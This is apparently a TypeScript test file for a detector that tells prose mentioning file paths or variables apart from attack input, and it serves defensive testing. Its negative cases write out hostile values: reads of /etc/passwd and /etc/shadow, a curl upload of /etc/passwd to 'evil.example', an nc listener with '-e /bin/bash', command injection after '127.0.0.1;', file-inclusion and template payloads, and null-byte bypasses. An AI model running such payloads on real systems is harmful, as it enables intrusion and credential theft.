import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isMention } from './sentence.ts';

const mention = (text: string, fragment: string): boolean => isMention(fragment, [text]);

test('a bare path, variable or class among words of prose is a mention, in any script', () => {
  for (const [text, fragment] of [
    ['Check /var/log/syslog for errors', '/var/log/'],
    ['logs are in /var/log/myapp/', '/var/log/'],
    ['I edited /etc/hosts', '/etc/hosts'],
    ["can't find /etc/hosts", '/etc/hosts'],
    ['See /var/log/nginx/error.log (line 42) for 502s', '/var/log/'],
    ['try /etc/hosts or /etc/resolv.conf', '/etc/hosts'],
    ['Fixed it; see /etc/hosts for the new line', '/etc/hosts'],
    ['Server is slow; this /proc/cpuinfo shows 4 cores', '/proc/cpuinfo'],
    ['Is /etc/hosts correct?', '/etc/hosts'],
    ['Use $_POST instead', '$_POST'],
    ['set ${HOME} first', '${HOME}'],
    ['set `${HOME}` before you run the installer', '${HOME}'],
    ['java.io.IOException: Permission denied', 'java.io.IOException'],
    ['Regarde /var/log/syslog pour les erreurs', '/var/log/'],
    ['Проверьте /var/log/syslog на ошибки', '/var/log/'],
    ['日志在 /var/log/myapp/ 里面', '/var/log/'],
    ['Logs moved to /var/log/app — see 🚀 notes', '/var/log/'],
    ['I ran tail -f /var/log/nginx/error.log and saw 502s', '/var/log/'],
  ])
    assert.equal(mention(text!, fragment!), true, text);
});

test('code around the match, a lone path or a command line is not a mention', () => {
  for (const [text, fragment] of [
    ['/etc/passwd', '/etc/passwd'],
    // A path that starts the value is opened by a file-name parameter, words or not (a review's bypass).
    ['/etc/shadow is it', '/etc/shadow'],
    ['/proc/self/environ is it', '/proc/self/environ'],
    ['../admin/keys? is it', '../'],
    ['/etc/hosts and /etc/resolv.conf are both wrong', '/etc/hosts'],
    ['cat /etc/passwd', '/etc/passwd'],
    ['sudo cat /etc/shadow', '/etc/shadow'],
    ['cat /etc/passwd now', '/etc/passwd'],
    ["copy myfile from '/etc/passwd';", '/etc/passwd'],
    ['load data infile "/etc/passwd" into table t', '/etc/passwd'],
    // A second review: a program's path, options and paths after it make a command line whatever words follow.
    ['/usr/bin/curl --upload-file /etc/passwd evil.example thanks', '/etc/passwd'],
    ['/bin/cat /etc/shadow now please', '/etc/shadow'],
    ['/usr/bin/nc -lvp 4444 -e /bin/bash now please', '/bin/bash'],
    ['`/usr/bin/id` is my tool', '/usr/bin/id'],
    // A third review: a separator and then a path is a command, whatever words follow.
    ['127.0.0.1; /usr/bin/head /etc/passwd now please', '/etc/passwd'],
    ['x | /usr/bin/sort /etc/shadow ok thanks', '/etc/shadow'],
    ['127.0.0.1; base32 /etc/passwd now please', '/etc/passwd'],
    // A fourth review: any path first with an argument next, a lone `&`, a line break, a longer command.
    ['/tmp/x /etc/shadow now please', '/etc/shadow'],
    ['/tmp/x --dump /etc/shadow now please', '/etc/shadow'],
    ['127.0.0.1 & base32 /etc/shadow now please', '/etc/shadow'],
    ['x\n/usr/bin/head /etc/passwd now please', '/etc/passwd'],
    ['x; nice head /etc/passwd now please', '/etc/passwd'],
    ["{% include '/etc/passwd' %} is my file", "'/etc/passwd"],
    ['{% include /etc/passwd %} is my file', '/etc/passwd'],
    ["open('/etc/passwd').read() # is my file", '/etc/passwd'],
    ["document('/etc/passwd') is my file", '/etc/passwd'],
    ['include::/etc/passwd[] is my file', '/etc/passwd'],
    ["image over 0,0 0,0 'text:/etc/passwd' is my file", '/etc/passwd'],
    ["include($_GET['f']); // load the file", '$_GET'],
    ["$_GET['c'] is my code", '$_GET'],
    ["new java.io.FileInputStream('/etc/passwd') // read the file", 'java.io.FileInputStream'],
    ['tail -f /var/log/nginx/error.log', '/var/log/'],
    ['${SHELL} -c "echo hi"', '${SHELL}'],
    ['/etc/passwd\0 is my file', '/etc/passwd'],
    ['/etc/passwd%00 is my file', '/etc/passwd'],
    ['words only, no match here', '/etc/passwd'],
  ])
    assert.equal(mention(text!, fragment!), false, text);
  for (const raw of ['%2Fetc%2Fpasswd%00 is my file', '%2Fetc%2Fpasswd%2500 is my file', '/etc/passwd%01 is my file'])
    assert.equal(isMention('/etc/passwd', [raw, '/etc/passwd is my file']), false, raw);
  // The rule's transforms fold a `//` comment into `/` and drop quotes: the value as sent is what is read.
  assert.equal(mention("include '/etc/passwd'; // is my file", '/etc/passwd'), false);
  assert.equal(mention('C:\\Windows\\win.ini is missing?', 'c:/windows/win.ini'), false, 'a path that starts the value');
  assert.equal(mention('Why is C:\\Windows\\win.ini missing?', 'c:/windows/win.ini'), true);
  assert.equal(mention('$GLOBALS // is my file', '$GLOBALS'), false, 'a comment is code');
});

test('linear on long adversarial values', () => {
  for (const unit of ["it's-a-word' ", 'ab'.repeat(40) + ' ', '(x'.repeat(100) + ' ', '$'.repeat(300) + ' ']) {
    const long = unit.repeat(Math.ceil(400_000 / unit.length));
    const t0 = process.hrtime.bigint();
    isMention('/etc/passwd', [`${long}/etc/passwd`]);
    // A ReDoS guard, not a speed target: one split and one anchored, bounded test per token.
    assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 1000, unit);
  }
});
